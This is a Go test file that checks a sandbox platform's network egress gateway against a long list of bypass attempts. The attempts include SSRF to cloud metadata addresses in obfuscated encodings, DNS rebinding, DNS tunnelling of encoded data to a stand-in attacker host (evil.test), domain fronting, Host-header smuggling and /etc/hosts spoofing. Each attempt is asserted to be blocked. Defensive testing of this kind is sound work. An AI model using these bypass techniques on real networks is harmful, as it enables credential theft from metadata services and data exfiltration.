package egress

import (
	"context"
	"fmt"
	"os/exec"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/spacesandbox/space/client"
)

// attack is one bypass attempt. It must not reach what it aims at: the
// probe's output must contain none of forbid (the markers the target
// servers answer with). check, when set, adds a test of its own.
type attack struct {
	name string
	open bool // run in the sandbox with internet access (else the strict one)
	// names runs it in a sandbox with internet access that denies
	// evil.test by name only, so only the name can stop it.
	names   bool
	spec    spec
	forbid  []string
	check   func(t *testing.T, out string)
	prepare func(t *testing.T, id string)
}

func m(ipPort string) string { return "M-" + ipPort }

// TestAttacks runs every bypass attempt in docs/security.md ("Network and
// egress"). "open" attempts come from a sandbox whose policy allows the
// whole internet except evil.test, so only the platform floor stands in
// their way; the others from a sandbox allowed only allowed.test,
// *.sfx.test and 198.51.100.140:8080.
func TestAttacks(t *testing.T) {
	need(t)
	t.Parallel()
	open := newSandbox(t, &client.Network{Internet: true, Deny: []string{"evil.test", "*.evil.test", evilIP}})
	strict := newSandbox(t, &strictPolicy)
	names := newSandbox(t, &client.Network{Internet: true, Deny: []string{"evil.test"}})
	other := newSandbox(t, nil)
	startServer(t, other.ID)
	vethHost, _ := vethAddrs(t, open.ID)
	_, otherIP := vethAddrs(t, other.ID)
	hp := env.net.hostPort
	get := func(host string) string { return httpGet(host, "/") }
	hostM := "M-HOST"
	evilM := m(evilIP)
	meta := m(metaIP)

	attacks := []attack{
		// The platform floor, from a sandbox with internet access.
		{name: "host address on the sandbox's veth", open: true, spec: spec{Kind: "tcp", Host: vethHost, Port: hp, Send: get(vethHost)}, forbid: []string{hostM}},
		{name: "cloud metadata 169.254.169.254", open: true, spec: spec{Kind: "tcp", Host: metaIP, Port: 80, Send: get(metaIP)}, forbid: []string{meta}},
		{name: "metadata as a decimal number", open: true, spec: spec{Kind: "tcp", Host: "2852039166", Port: 80, Send: get(metaIP)}, forbid: []string{meta}},
		{name: "metadata in octal", open: true, spec: spec{Kind: "tcp", Host: "0251.0376.0251.0376", Port: 80, Send: get(metaIP)}, forbid: []string{meta}},
		{name: "metadata in hex", open: true, spec: spec{Kind: "tcp", Host: "0xa9fea9fe", Port: 80, Send: get(metaIP)}, forbid: []string{meta}},
		{name: "metadata in dotted hex", open: true, spec: spec{Kind: "tcp", Host: "0xa9.0xfe.0xa9.0xfe", Port: 80, Send: get(metaIP)}, forbid: []string{meta}},
		{name: "metadata in short form", open: true, spec: spec{Kind: "tcp", Host: "169.254.43518", Port: 80, Send: get(metaIP)}, forbid: []string{meta}},
		{name: "carrier-grade NAT 100.64.0.0/10", open: true, spec: spec{Kind: "tcp", Host: cgnatIP, Port: 80, Send: get(cgnatIP)}, forbid: []string{m(cgnatIP)}},
		{name: "RFC 1918 172.16.0.0/12", open: true, spec: spec{Kind: "tcp", Host: privIP, Port: 80, Send: get(privIP)}, forbid: []string{m(privIP)}},
		{name: "RFC 1918 192.168.0.0/16", open: true, spec: spec{Kind: "tcp", Host: priv2IP, Port: 80, Send: get(priv2IP)}, forbid: []string{m(priv2IP)}},
		{name: "another sandbox", open: true, spec: spec{Kind: "tcp", Host: otherIP, Port: 8000, Send: get(otherIP)}, forbid: []string{"M-SANDBOX-B"}},
		{name: "IPv4-mapped IPv6 metadata", open: true, spec: spec{Kind: "tcp", Host: "::ffff:" + metaIP, Port: 80, V6: true, Send: get("[" + "::ffff:" + metaIP + "]")}, forbid: []string{meta}},
		{name: "IPv4-mapped IPv6 private", open: true, spec: spec{Kind: "tcp", Host: "::ffff:" + privIP, Port: 80, V6: true, Send: get("[" + "::ffff:" + privIP + "]")}, forbid: []string{m(privIP)}},
		{name: "IPv4-compatible IPv6 metadata", open: true, spec: spec{Kind: "tcp", Host: "::" + metaIP, Port: 80, V6: true, Send: get("[" + "::" + metaIP + "]")}, forbid: []string{meta}},
		{name: "NAT64 IPv6 metadata", open: true, spec: spec{Kind: "tcp", Host: "64:ff9b::a9fe:a9fe", Port: 80, V6: true, Send: get("[" + "64:ff9b::a9fe:a9fe" + "]")}, forbid: []string{meta}},
		{name: "AWS IPv6 metadata fd00:ec2::254", open: true, spec: spec{Kind: "tcp", Host: "fd00:ec2::254", Port: 80, V6: true, Send: get("[" + "fd00:ec2::254" + "]")}, forbid: []string{"M-"}},
		{name: "IPv6 link-local", open: true, spec: spec{Kind: "tcp", Host: "fe80::1%eth0", Port: 80, V6: true, Send: get("[" + "fe80::1%eth0" + "]")}, forbid: []string{"M-"}},
		{name: "Host naming a private address", open: true, spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get("private.test")}, forbid: []string{m(privIP)}},
		{name: "Host naming the metadata address", open: true, spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get("meta.test")}, forbid: []string{meta}},
		{name: "Host naming loopback", open: true, spec: spec{Kind: "tcp", Host: allowedIP, Port: hp, Send: get("loop.test")}, forbid: []string{hostM}},
		{name: "Host naming a host address", open: true, spec: spec{Kind: "tcp", Host: allowedIP, Port: hp, Send: get("hostaddr.test")}, forbid: []string{hostM}},
		{name: "TLS SNI naming the metadata address", open: true, spec: spec{Kind: "tls", Host: allowedIP, Port: 443, SNI: "meta.test", Send: get("meta.test")}, forbid: []string{meta}},
		{name: "DNS answer in the metadata range", open: true, spec: spec{Kind: "dns", Host: "meta.test"}, forbid: []string{"169.254"}},
		{name: "DNS answer IPv4-mapped", open: true, spec: spec{Kind: "dns", Host: "mapped.test"}, forbid: []string{"169.254", "::ffff"}},
		{name: "DNS answer mixing public and private", open: true, spec: spec{Kind: "dns", Host: "mixed.test"}, forbid: []string{privIP}},
		{name: "DNS rebinding (public, then this host)", open: true, spec: spec{Kind: "url", URL: fmt.Sprintf("http://rebind.test:%d/", hp)}, forbid: []string{hostM},
			check: func(t *testing.T, out string) {
				env.net.dns.mu.Lock()
				n := env.net.dns.rebinds
				env.net.dns.mu.Unlock()
				if n < 2 {
					t.Errorf("the rebinding name was asked %d times; the test did not rebind (%s)", n, out)
				}
			}},
		{name: "UDP to an arbitrary port", open: true, spec: spec{Kind: "udp", Host: allowedIP, Port: 5353}, forbid: []string{"M-UDP"}},
		{name: "UDP broadcast", open: true, spec: spec{Kind: "udp", Host: "255.255.255.255", Port: 5353, Broadcast: true}, forbid: []string{"M-UDP"}},
		{name: "UDP multicast", open: true, spec: spec{Kind: "udp", Host: "224.0.0.251", Port: 5353}, forbid: []string{"M-UDP"}},
		{name: "DNS to an attacker's resolver (tunnelling)", open: true, spec: spec{Kind: "udp", Host: evilIP, Port: 53, Send: dnsQuery("ZXhmaWx0cmF0ZQ.evil.test")}, forbid: []string{"M-UDP"},
			check: func(t *testing.T, _ string) {
				if env.net.dns.askedFor("zxhmawx0cmf0zq") {
					t.Error("the tunnelled name reached the upstream resolver")
				}
			}},
		{name: "ICMP echo (raw socket)", open: true, spec: spec{Kind: "icmp", Host: allowedIP, User: "root"}, forbid: []string{"OK"}},
		{name: "ICMP echo (ping socket)", open: true, spec: spec{Kind: "icmp", Host: allowedIP, Dgram: true, User: "root"}, forbid: []string{"OK"}},
		{name: "ICMP echo to the host", open: true, spec: spec{Kind: "icmp", Host: vethHost, User: "root"}, forbid: []string{"OK"}},
		{name: "raw TCP socket", open: true, spec: spec{Kind: "rawtcp", Host: allowedIP, User: "root"}, forbid: []string{"OK"}},

		// Policy bypasses, from the strict sandbox.
		{name: "denied host by address", spec: spec{Kind: "tcp", Host: evilIP, Port: 80, Send: get("evil.test")}, forbid: []string{evilM}},
		{name: "denied host by address, no Host header", spec: spec{Kind: "tcp", Host: evilIP, Port: 80, Send: "GET / HTTP/1.0\r\n\r\n"}, forbid: []string{evilM}},
		{name: "denied host, server speaks first", spec: spec{Kind: "tcp", Host: evilIP, Port: 8080}, forbid: []string{evilM}},
		{name: "DNS for a denied name", spec: spec{Kind: "dns", Host: "evil.test"}, forbid: []string{evilIP}},
		{name: "DNS tunnelling through a denied domain", spec: spec{Kind: "dns", Host: "c2VjcmV0LWRhdGE.evil.test"}, forbid: []string{"OK"},
			check: func(t *testing.T, _ string) {
				if env.net.dns.askedFor("c2vjcmv0lwrhdge") {
					t.Error("the tunnelled name reached the upstream resolver")
				}
			}},
		{name: "/etc/hosts spoofing an allowed name", spec: spec{Kind: "url", URL: "http://api.sfx.test/"}, forbid: []string{evilM},
			prepare: func(t *testing.T, id string) {
				run(t, id, "root", []string{"sh", "-c", "echo '" + evilIP + " api.sfx.test' >> /etc/hosts"})
			}},
		{name: "SNI of an allowed name to a denied address (domain fronting)", spec: spec{Kind: "tls", Host: evilIP, Port: 443, SNI: "allowed.test", Send: get("allowed.test")}, forbid: []string{evilM}},
		{name: "SNI of a denied name to an allowed address", spec: spec{Kind: "tls", Host: allowedIP, Port: 443, SNI: "evil.test", Send: get("evil.test")}, forbid: []string{"host=evil.test"}},
		{name: "TLS without SNI to a denied address", spec: spec{Kind: "tls", Host: evilIP, Port: 443, Send: get("evil.test")}, forbid: []string{evilM}},
		{name: "trailing-dot SNI of a denied name", spec: spec{Kind: "tls", Host: allowedIP, Port: 443, SNI: "evil.test.", Send: get("evil.test")}, forbid: []string{"host=evil.test"}},
		{name: "Host of a denied name to an allowed address", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get("evil.test")}, forbid: []string{"host=evil.test"}},
		{name: "second request on a kept-alive connection names another host", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80,
			Send: "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + get("evil.test")}, forbid: []string{"host=evil.test"}},
		{name: "absolute-form request target naming a denied host", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80,
			Send: "GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"}, forbid: []string{"host=evil.test", evilM}},
		{name: "CONNECT to a denied host", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: "CONNECT evil.test:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + get("evil.test")}, forbid: []string{evilM, "host=evil.test"}},
		{name: "CONNECT to a denied port", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: "CONNECT allowed.test:2222 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"}, forbid: []string{"2222 banner"}},
		{name: "denied port on an allowed address", spec: spec{Kind: "tcp", Host: allowedIP, Port: 2222}, forbid: []string{"2222 banner"}},
		{name: "Host with a NUL byte", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get("allowed.test\x00.evil.test")}, forbid: []string{"host="}},
		{name: "Host of a denied name with a trailing dot", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get("evil.test.")}, forbid: []string{"host=evil.test"}},
		{name: "Host of a denied name in odd case", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get("EVIL.tEsT")}, forbid: []string{"host=EVIL"}},
		{name: "percent-encoded Host", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get("evil%2etest")}, forbid: []string{"host="}},
		{name: "Host that only ends like a wildcard rule", spec: spec{Kind: "tcp", Host: evilIP, Port: 80, Send: get("evilsfx.test")}, forbid: []string{evilM, "host=evilsfx"}},
		{name: "Host of a wildcard rule's apex", spec: spec{Kind: "tcp", Host: evilIP, Port: 80, Send: get("sfx.test")}, forbid: []string{evilM, "host=sfx.test"}},
		{name: "Host as an address literal", spec: spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get(evilIP)}, forbid: []string{"M-"}},
		{name: "redirect from an allowed host to a denied one", spec: spec{Kind: "url", URL: "http://allowed.test/?redirect=http://evil.test/"}, forbid: []string{evilM}},
		{name: "redirect to a denied address", spec: spec{Kind: "url", URL: "http://allowed.test/?redirect=http://" + evilIP + "/"}, forbid: []string{evilM}},
		{name: "redirect to cloud metadata", spec: spec{Kind: "url", URL: "http://allowed.test/?redirect=http://" + metaIP + "/"}, forbid: []string{meta}},
		{name: "UDP to an allowed TCP address:port", spec: spec{Kind: "udp", Host: allowedIP, Port: 8080}, forbid: []string{"M-UDP"}},

		// Name-only denies, from a sandbox that may reach evil.test's address.
		{name: "Host of a name-denied host at its address", names: true, spec: spec{Kind: "tcp", Host: evilIP, Port: 80, Send: get("evil.test")}, forbid: []string{"host=evil.test"}},
		{name: "HTTP split into one-byte segments to hide the Host", names: true, spec: spec{Kind: "tcp", Host: evilIP, Port: 80, Send: get("evil.test"), Split: true}, forbid: []string{"host=evil.test"}},
		{name: "SNI of a name-denied host at its address", names: true, spec: spec{Kind: "tls", Host: evilIP, Port: 443, SNI: "evil.test", Send: get("evil.test")}, forbid: []string{"host=evil.test"}},
	}
	for _, ip := range otherHostAddrs(t) {
		attacks = append(attacks, attack{name: "host address " + ip, open: true, spec: spec{Kind: "tcp", Host: ip, Port: hp, Send: get(ip)}, forbid: []string{hostM}})
	}

	// Controls: the targets answer when asked the way that is allowed, so
	// a refusal above is the gateway's doing.
	if out := probe(t, strict.ID, spec{Kind: "url", URL: "http://allowed.test/"}); !strings.Contains(out, "host=allowed.test") {
		t.Fatalf("control: allowed.test unreachable from the strict sandbox: %s", out)
	}
	if out := probe(t, open.ID, spec{Kind: "tcp", Host: allowedIP, Port: 80, Send: get(allowedIP)}); !strings.Contains(out, m(allowedIP)) {
		t.Fatalf("control: the open sandbox cannot reach %s: %s", allowedIP, out)
	}
	if out := probe(t, names.ID, spec{Kind: "tcp", Host: evilIP, Port: 80, Send: get(evilIP), Split: true}); !strings.Contains(out, m(evilIP)) {
		t.Fatalf("control: the name-deny sandbox cannot reach %s by address: %s", evilIP, out)
	}

	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			id := strict.ID
			switch {
			case a.open:
				id = open.ID
			case a.names:
				id = names.ID
			}
			if a.prepare != nil {
				a.prepare(t, id)
			}
			out := probe(t, id, a.spec)
			for _, f := range a.forbid {
				if strings.Contains(out, f) {
					t.Errorf("reached the target (%q in the answer): %s", f, out)
				}
			}
			if a.check != nil {
				a.check(t, out)
			}
			t.Logf("%s", out)
		})
	}
	t.Logf("%d attempts", len(attacks))
}

// startServer runs an HTTP server on port 8000 in sandbox id answering
// M-SANDBOX-B, and waits until it answers from inside.
func startServer(t *testing.T, id string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if _, err := env.d.Client.StartBackground(ctx, id, client.CommandRequest{Cmd: "mkdir -p /tmp/www && echo M-SANDBOX-B > /tmp/www/index.html && cd /tmp/www && exec python3 -m http.server 8000"}); err != nil {
		t.Fatal(err)
	}
	for i := 0; ; i++ {
		if out := probe(t, id, spec{Kind: "tcp", Host: "127.0.0.1", Port: 8000, Send: httpGet("127.0.0.1", "/")}); strings.Contains(out, "M-SANDBOX-B") {
			return
		} else if i == 60 {
			t.Fatalf("control: the other sandbox's server does not answer: %s", out)
		}
		time.Sleep(250 * time.Millisecond)
	}
}

// vethAddrs returns the host's and the sandbox's address on its veth.
func vethAddrs(t *testing.T, id string) (host, sandbox string) {
	t.Helper()
	out, err := exec.Command("ip", "-4", "-o", "addr", "show", "dev", "vse"+id[:12]).CombinedOutput()
	if err != nil {
		t.Fatalf("ip addr: %v %s", err, out)
	}
	mm := regexp.MustCompile(`inet (\d+\.\d+\.\d+)\.(\d+)/30`).FindStringSubmatch(string(out))
	if mm == nil {
		t.Fatalf("no /30 on the sandbox's veth: %s", out)
	}
	var last int
	fmt.Sscan(mm[2], &last)
	return fmt.Sprintf("%s.%d", mm[1], last), fmt.Sprintf("%s.%d", mm[1], last+1)
}

// otherHostAddrs lists the host's IPv4 addresses on interfaces other than
// loopback and sandbox veths.
func otherHostAddrs(t *testing.T) []string {
	out, err := exec.Command("ip", "-4", "-o", "addr", "show").Output()
	if err != nil {
		t.Fatal(err)
	}
	var ips []string
	for _, line := range strings.Split(string(out), "\n") {
		f := strings.Fields(line)
		if len(f) < 4 || f[1] == "lo" || strings.HasPrefix(f[1], "vs") {
			continue
		}
		ips = append(ips, strings.Split(f[3], "/")[0])
	}
	return ips
}

// dnsQuery is a DNS A question for name, as bytes for a UDP probe.
func dnsQuery(name string) string {
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		q = append(q, byte(len(l)))
		q = append(q, l...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	return string(q)
}
